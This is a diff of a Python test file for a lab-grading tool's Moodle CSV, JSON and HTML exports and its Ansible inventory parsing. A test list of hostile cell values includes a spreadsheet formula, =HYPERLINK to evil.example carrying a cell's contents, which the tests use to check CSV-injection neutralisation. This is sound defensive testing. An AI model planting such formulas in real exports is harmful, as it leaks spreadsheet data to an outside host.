@@ -19,6 +19,7 @@ from checker.grade import exports
 from checker.grade.gradebook import Gradebook, GradebookError, default_path
 from checker.grade.targets import HostTarget, TargetError, from_inventory, from_specs
 from conftest import run_virtlab
+from consumers import (MoodleAbort, MoodleUser, check_json, check_moodle_csv, moodle_import)
 
 LAB = "01-hardware"
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
@@ -200,7 +201,12 @@ HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"clic")', "+1+1", "-2+3", "@
 def test_no_csv_cell_can_start_a_formula(s):
     cell = exports.neutralise(s)
     assert not cell.startswith(FORMULA_START)
+    # nothing Moodle would keep in the feedback: no quote in front; no blank it would trim
+    assert not cell.startswith(" ")
+    if cell.startswith("'"):  # only the data's own quote, never one added
+        assert s.replace("\r", " ").replace("\n", " ").lstrip(" \t\v\f\0=+-@").startswith("'")
     assert "\n" not in cell and "\r" not in cell
+    assert '\\"' not in cell  # PHP's fgetcsv would take it for an escaped quote
     buf = io.StringIO()
     csv.writer(buf, lineterminator="\r\n").writerow([cell, "x"])
     assert next(csv.reader(io.StringIO(buf.getvalue()))) == [cell, "x"]
@@ -224,26 +230,175 @@ def _hostile_view(tmp_path, lang="fr"):
     return gb.class_view(run)
 
 
-def test_the_csv_reimports_with_the_documented_columns_and_no_formula(tmp_path):
+def test_the_csv_carries_only_graded_learners_with_a_usable_identity(tmp_path):
     view = _hostile_view(tmp_path)
+    plan = exports.csv_plan(view)
     text = exports.to_csv(view)
     rows = list(csv.reader(io.StringIO(text)))
-    assert rows[0] == ["username", "email", LAB, f"{LAB} feedback"]
-    assert len(rows) == 1 + len(HOSTILE)
-    for row in rows[1:]:
-        assert len(row) == 4
-        assert all(not c.startswith(FORMULA_START) for c in row), row
-    byname = {r[0]: r for r in rows[1:]}
-    assert byname["l0"][2] == "8" and "dev-kvm" in byname["l0"][3]  # 10 - dev-kvm's 2
-    assert byname["l1"][2] == "" and "injoignable" in byname["l1"][3]
-    assert byname["l2"][2] == "" and "pas encore évalué" in byname["l2"][3]
-    assert byname["l0"][1] == "'" + HOSTILE[0]  # neutralised, still readable
-    text.encode("utf-8")  # UTF-8 without surprises
+    assert rows[0] == ["email", LAB, f"{LAB} feedback"]
+    # l0 (an email starting with "="), l3 ("@...") and l7 (a line break) are unusable
+    # identities; l1 unreachable and l2 never graded: none of them has a row. l4 and l5 are
+    # trimmed, as Moodle trims them.
+    assert [r[0] for r in rows[1:]] == ["TAB", "CR", HOSTILE[6]]
+    left = {x.learner: x for x in plan.left_out}
+    assert set(left) == {"l0", "l1", "l2", "l3", "l7"}
+    assert "injoignable" in left["l1"].fr and "unreachable" in left["l1"].en
+    assert "pas encore évalué" in left["l2"].fr and "not graded yet" in left["l2"].en
+    assert "formula" in left["l0"].en
+    row = {r[0]: r for r in rows[1:]}[HOSTILE[6]]
+    assert row[1] == "8" and row[2].startswith("Objectifs non atteints : dev-kvm : ")
+    check_moodle_csv(text)
+
+
+def _csv_view(tmp_path, targets, results, lang="en", labs=(LAB,)):
+    gb = Gradebook(tmp_path / "gb.sqlite")
+    run = gb.start_run(list(labs), targets, lang=lang)
+    for t in targets:
+        if t.host in results:
+            gb.record(run, t.host, results[t.host])
+    gb.finish_run(run, "complete")
+    return gb.class_view(run)
+
+
+def test_duplicate_identities_are_left_out_and_reported(tmp_path):
+    c = _class(3)
+    same = [c[0], HostTarget(**{**c[1].to_dict(), "email": "U0@example.org"}), c[2]]
+    view = _csv_view(tmp_path, same, {t.host: _graded(t.learner) for t in same})
+    plan = exports.csv_plan(view)
+    assert [r[0] for r in plan.rows] == ["u2@example.org"]
+    dup = [x for x in plan.left_out if "duplicate" in x.en]
+    assert {x.learner for x in dup} == {"u0", "u1"} and "en double" in dup[0].fr
+    check_moodle_csv(exports.to_csv(view))
+
+
+@pytest.mark.parametrize("identity", ["username", "email", "idnumber"])
+def test_the_identity_column_is_the_one_the_instructor_chooses(tmp_path, identity):
+    c = [HostTarget(**{**t.to_dict(), "username": f"moodle{i}", "idnumber": f"E{i:03}"})
+         for i, t in enumerate(_class(2))]
+    view = _csv_view(tmp_path, c, {t.host: _graded(t.learner) for t in c})
+    text = exports.to_csv(view, exports.CsvOptions(identity=identity))
+    rows = list(csv.reader(io.StringIO(text)))
+    want = {"username": "moodle0", "email": "u0@example.org", "idnumber": "E000"}[identity]
+    assert rows[0][0] == identity and rows[1][0] == want
+    users = [MoodleUser(id=10 + i, username=f"moodle{i}", email=f"u{i}@example.org",
+                        idnumber=f"E{i:03}") for i in range(2)]
+    res = check_moodle_csv(text, users)
+    assert res.grades[(10, LAB)] == 10.0 and res.grades[(11, LAB)] == 10.0
+
+
+def test_hosts_without_the_identity_are_left_out_and_say_which_variable(tmp_path):
+    c = _class(2)
+    view = _csv_view(tmp_path, c, {t.host: _graded(t.learner) for t in c})
+    plan = exports.csv_plan(view, exports.CsvOptions(identity="username"))
+    assert plan.rows == []
+    assert all("virtlab_username" in x.en and "--roster" in x.en for x in plan.left_out)
+
+
+ROSTER = (
+    "\ufeffFirst name,Last name,Username,ID number,Email address,Roles,Groups\r\n"
+    "Ada,Lovelace,alovelace,E001,ada@example.org,Student,TP1\r\n"
+    "Bob,Martin,bmartin,E002,u1@example.org,Student,TP1\r\n"
+    "Carl,Sagan,csagan,E003,carl@example.org,Student,\r\n")
+
+
+def test_a_moodle_roster_gives_the_identity_of_each_host(tmp_path):
+    roster = tmp_path / "participants.csv"
+    roster.write_text(ROSTER, encoding="utf-8")
+    c = [HostTarget(host="pc0", spec="ssh://ada@h0", learner="ada", ssh_user="ada",
+                    ssh_host="h0"),  # login = the email's local part
+         HostTarget(host="pc1", spec="ssh://u1@h1", learner="u1", email="u1@example.org",
+                    ssh_user="u1", ssh_host="h1"),  # email known from the inventory
+         HostTarget(host="pc2", spec="ssh://zed@h2", learner="zed", ssh_user="zed",
+                    ssh_host="h2")]  # nobody in the roster
+    view = _csv_view(tmp_path, c, {t.host: _graded(t.learner) for t in c})
+    plan = exports.csv_plan(view, exports.CsvOptions(identity="username", roster=str(roster)))
+    assert [r[0] for r in plan.rows] == ["alovelace", "bmartin"]
+    (left,) = plan.left_out
+    assert left.host == "pc2" and "no participant" in left.en and "aucun participant" in left.fr
+    users = [MoodleUser(1, "alovelace", "ada@example.org", "E001"),
+             MoodleUser(2, "bmartin", "u1@example.org", "E002"),
+             MoodleUser(3, "csagan", "carl@example.org", "E003")]
+    check_moodle_csv(exports.to_csv(view, exports.CsvOptions(identity="username",
+                                                              roster=str(roster))), users)
+    # French Moodle, semicolons
+    fr = tmp_path / "participants-fr.csv"
+    fr.write_text("Prénom;Nom;Adresse de courriel;Rôles\nAda;Lovelace;ada@example.org;Étudiant\n",
+                  encoding="utf-8")
+    plan = exports.csv_plan(view, exports.CsvOptions(identity="email", roster=str(fr)))
+    assert [r[0] for r in plan.rows] == ["ada@example.org", "u1@example.org"]
+    with pytest.raises(exports.ExportError, match="no idnumber column"):
+        exports.csv_plan(view, exports.CsvOptions(identity="idnumber", roster=str(fr)))
+
+
+@pytest.mark.parametrize("scale, grade", [("points", "8"), ("20", "16"), ("100", "80")])
+def test_grades_on_the_scale_asked(tmp_path, scale, grade):
+    c = _class(1)
+    view = _csv_view(tmp_path, c, {c[0].host: _graded("u0", {**ALL_PASS, "dev-kvm": "fail"})})
+    rows = exports.csv_plan(view, exports.CsvOptions(scale=scale)).rows
+    assert rows[0][1] == grade
+    (tmp_path / "x").mkdir()
+    third = _csv_view(tmp_path / "x", c,
+                      {c[0].host: _graded("u0", {"cpu-virt-flags": "pass", "kvm-modules": "fail",
+                                                 "dev-kvm": "fail", "host-resources": "fail"})})
+    assert exports.csv_plan(third, exports.CsvOptions(scale="20")).rows[0][1] == "6"  # 3/10
+
+
+# --- Moodle's import rules, as the helper every CSV goes through encodes them -------------
+
+USERS = [MoodleUser(1, "alice", "alice@example.org"), MoodleUser(2, "bob", "bob@example.org")]
+
+
+def _import(text, before=None):
+    return moodle_import(text, USERS, map_from="email", map_to="useremail", items={"lab": "lab"},
+                         feedback={"lab feedback": "lab"}, before=before)
+
+
+def test_moodle_an_empty_or_dash_grade_erases_the_grade():
+    for cell in ("", "-", " - "):
+        res = _import(f"email,lab,lab feedback\nalice@example.org,{cell},x\n",
+                      before={(1, "lab"): 7.0})
+        assert res.grades[(1, "lab")] is None and res.blanked == [(1, "lab")]
+    with pytest.raises(AssertionError, match="erased"):
+        check_moodle_csv("email,lab,lab feedback\na@x,,x\n")
+
+
+def test_moodle_a_blank_identity_takes_the_previous_rows_learner_or_aborts():
+    res = _import("email,lab,lab feedback\nalice@example.org,5,x\n,9,y\n")
+    assert res.grades[(1, "lab")] == 9.0 and res.inherited == [2]  # bob's row went to alice
+    with pytest.raises(MoodleAbort) as e:
+        _import("email,lab,lab feedback\n,5,x\nalice@example.org,9,y\n")
+    assert e.value.code == "usermappingerrorusernotfound"
+    with pytest.raises(MoodleAbort):  # PHP's empty("0") is true too
+        _import("email,lab,lab feedback\n0,5,x\n")
+
+
+def test_moodle_an_unknown_learner_aborts_the_whole_import():
+    with pytest.raises(MoodleAbort) as e:
+        _import("email,lab,lab feedback\nalice@example.org,5,x\ncarol@example.org,9,y\n")
+    assert e.value.code == "usermappingerror"
+
+
+def test_moodle_duplicate_rows_import_both_and_the_last_wins():
+    res = _import("email,lab,lab feedback\nbob@example.org,5,x\nbob@example.org,9,y\n")
+    assert res.grades[(2, "lab")] == 9.0 and res.rows_of[2] == [1, 2]
+    with pytest.raises(AssertionError, match="several rows"):
+        check_moodle_csv("email,lab,lab feedback\nb@x,5,x\nb@x,9,y\n")
+
+
+def test_moodle_keeps_the_feedback_as_written_but_trimmed_and_checks_grades():
+    res = _import("email,lab,lab feedback\nalice@example.org,5,\"'=quoted, kept \"\n")
+    assert res.feedback[(1, "lab")] == "'=quoted, kept"  # a guard quote would stay in it
+    with pytest.raises(MoodleAbort, match="badgrade"):
+        _import("email,lab,lab feedback\nalice@example.org,abc,x\n")
+    with pytest.raises(MoodleAbort, match="gradevaluetoobig"):
+        _import("email,lab,lab feedback\nalice@example.org,101,x\n")
+    with pytest.raises(MoodleAbort, match="csvweirdcolumns"):
+        _import("email,lab,lab feedback\nalice@example.org,5\n")
 
 
 def test_the_json_export_holds_every_report(tmp_path):
     view = _hostile_view(tmp_path, lang="en")
-    doc = json.loads(exports.to_json(view))
+    doc = check_json(exports.to_json(view), "class-export")
     assert doc["labs"] == [LAB] and len(doc["learners"]) == len(HOSTILE)
     l0 = doc["learners"][0]["results"][LAB]
     assert l0["status"] == "graded" and l0["report"]["objectives"][2]["status"] == "fail"
@@ -261,6 +416,9 @@ def test_the_html_report_escapes_everything_and_has_grid_chart_failures(tmp_path
     # the grid: one row per learner, one cell per objective
     assert html.count('class="c fail"') == len(HOSTILE) - 2
     assert html.count('class="c none"') == 2 * 4
+    # with the CSV's options: who the CSV leaves out besides those not graded, and why
+    html = exports.to_html(view, exports.CsvOptions())
+    assert "Absents du CSV pour Moodle" in html and "formula sign" in html
 
 
 def test_pass_rates_leave_out_hosts_not_graded(tmp_path):
@@ -300,3 +458,122 @@ def test_an_unreadable_gradebook_is_a_usage_error(tmp_path):
     bad.write_bytes(b"this is not sqlite" * 100)
     r = run_virtlab("grade", "01", "--hosts", "ssh://a@h", "--db", str(bad))
     assert r.returncode == 2 and "cannot open gradebook" in r.stderr
+
+
+# --- inventories as Ansible users write them ----------------------------------------------
+
+def _ansible_dir(tmp_path):
+    """An inventory directory: two files, group_vars (all, a group, a parent group),
+    host_vars, children."""
+    inv = tmp_path / "classe"
+    (inv / "group_vars").mkdir(parents=True)
+    (inv / "host_vars").mkdir()
+    (inv / "01-tp1.ini").write_text(
+        "[tp1]\npc01 ansible_host=127.0.0.11\npc02 ansible_host=127.0.0.12\n"
+        "[tp1:vars]\nansible_user=etu1\n")
+    (inv / "02-tp2.yml").write_text(
+        "all:\n  children:\n    soir:\n      children:\n        tp2:\n          hosts:\n"
+        "            pc13:\n              ansible_host: 127.0.0.13\n"
+        "            pc14:\n              ansible_host: 127.0.0.14\n")
+    (inv / "group_vars" / "all.yml").write_text("ansible_port: 2222\n")
+    (inv / "group_vars" / "tp1.yml").write_text(
+        "ansible_ssh_private_key_file: ~/.ssh/id_tp1\n"
+        "ansible_ssh_common_args: '-o ProxyJump=prof@bastion -o \"UserKnownHostsFile=/k h\"'\n")
+    (inv / "group_vars" / "soir.yml").write_text("ansible_user: etu2\n")
+    (inv / "host_vars" / "pc02.yml").write_text(
+        "virtlab_learner: bob\nemail: bob@example.org\nvirtlab_idnumber: E002\n"
+        "ansible_port: 2202\n")
+    (inv / "host_vars" / "pc14.yml").write_text("virtlab_username: dmoodle\n")
+    return inv
+
+
+def _ansible(*args):
+    import os
+    import subprocess
+    import sys
+
+    bindir = os.path.dirname(sys.executable)
+    r = subprocess.run([os.path.join(bindir, args[0]), *args[1:]], capture_output=True,
+                       text=True, timeout=120)
+    assert r.returncode == 0, r.stderr
+    return r.stdout
+
+
+def test_an_inventory_directory_reads_as_ansible_inventory_reads_it(tmp_path):
+    import os
+
+    inv = _ansible_dir(tmp_path)
+    targets = {t.host: t for t in from_inventory(str(inv))}
+    assert set(targets) == {"pc01", "pc02", "pc13", "pc14"}
+    for name, t in targets.items():
+        hv = json.loads(_ansible("ansible-inventory", "-i", str(inv), "--host", name))
+        assert t.ssh_host == hv["ansible_host"] and t.ssh_port == int(hv["ansible_port"])
+        assert t.ssh_user == hv["ansible_user"]
+        assert t.learner == hv.get("virtlab_learner", hv["ansible_user"])
+        assert t.spec == f"ansible://{name}?ansible_inventory={inv.resolve()}"
+    assert (targets["pc02"].learner, targets["pc02"].email, targets["pc02"].idnumber,
+            targets["pc02"].ssh_port) == ("bob", "bob@example.org", "E002", 2202)
+    assert targets["pc14"].username == "dmoodle" and targets["pc13"].ssh_user == "etu2"
+    # the instructor's ssh options for the group, split as a shell would
+    key = os.path.expanduser("~/.ssh/id_tp1")
+    assert targets["pc01"].ssh_args == ("-i", key, "-o", "ProxyJump=prof@bastion",
+                                        "-o", "UserKnownHostsFile=/k h")
+    assert targets["pc13"].ssh_args == ()
+
+
+@pytest.mark.parametrize("pattern", ["tp1", "soir", "all:!pc02", "pc1*", "tp1:&~pc0[2-9]",
+                                     "tp2,pc01"])
+def test_limit_takes_ansible_patterns_as_ansible_does(tmp_path, pattern):
+    inv = _ansible_dir(tmp_path)
+    ours = {t.host for t in from_inventory(str(inv), pattern)}
+    listed = _ansible("ansible", "-i", str(inv), pattern, "--list-hosts")
+    theirs = {ln.strip() for ln in listed.splitlines()[1:] if ln.strip()}
+    assert ours == theirs and ours
+
+
+def test_limit_matching_nothing_and_limit_without_inventory_are_usage_errors(tmp_path):
+    inv = _ansible_dir(tmp_path)
+    with pytest.raises(TargetError, match="no host matches --limit 'tp9'"):
+        from_inventory(str(inv), "tp9")
+    r = run_virtlab("grade", "01", "--hosts", "ssh://a@h", "--limit", "tp1",
+                    "--db", str(tmp_path / "gb.sqlite"))
+    assert r.returncode == 2 and "--limit" in r.stderr and "--inventory" in r.stderr
+
+
+def test_list_hosts_grades_nothing_and_prints_the_hosts(tmp_path):
+    inv = _ansible_dir(tmp_path)
+    db = tmp_path / "gb.sqlite"
+    r = run_virtlab("grade", "01", "--inventory", str(inv), "--limit", "tp1",
+                    "--list-hosts", "--lang", "en", "--db", str(db))
+    assert r.returncode == 0, r.stderr
+    assert "hosts (2):" in r.stdout
+    assert "pc01  learner=etu1 ssh=etu1@127.0.0.11:2222" in r.stdout
+    assert "pc02  learner=bob ssh=etu1@127.0.0.12:2202 email=bob@example.org" in r.stdout
+    assert "pc13" not in r.stdout and not db.exists()  # nothing graded, nothing recorded
+
+
+def test_a_missing_optional_library_says_how_to_install_it(tmp_path):
+    import subprocess
+    import sys
+
+    code = ("import sys; sys.modules['matplotlib'] = None\n"
+            "from checker.cli import main\n"
+            f"sys.exit(main(['grade', '01', '--hosts', 'ssh://a@h', '--html', "
+            f"'{tmp_path / 'c.html'}', '--db', '{tmp_path / 'gb.sqlite'}']))")
+    r = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
+                       timeout=120)
+    assert r.returncode == 2, r.stderr
+    assert "internal error" not in r.stderr and "Traceback" not in r.stderr
+    assert "matplotlib" in r.stderr and "pip install 'virtlab[grade]'" in r.stderr
+    assert ".venv/bin/pip install '.[grade]'" in r.stderr
+    assert not (tmp_path / "gb.sqlite").exists()  # refused before grading anyone
+
+
+def test_a_roster_without_the_identity_column_is_refused_before_grading(tmp_path):
+    roster = tmp_path / "p.csv"
+    roster.write_text("First name,Last name,Email address\nA,B,a@example.org\n")
+    r = run_virtlab("grade", "01", "--hosts", "ssh://a@h", "--csv", str(tmp_path / "g.csv"),
+                    "--csv-id", "idnumber", "--roster", str(roster),
+                    "--db", str(tmp_path / "gb.sqlite"))
+    assert r.returncode == 2 and "no idnumber column" in r.stderr
+    assert not (tmp_path / "gb.sqlite").exists()
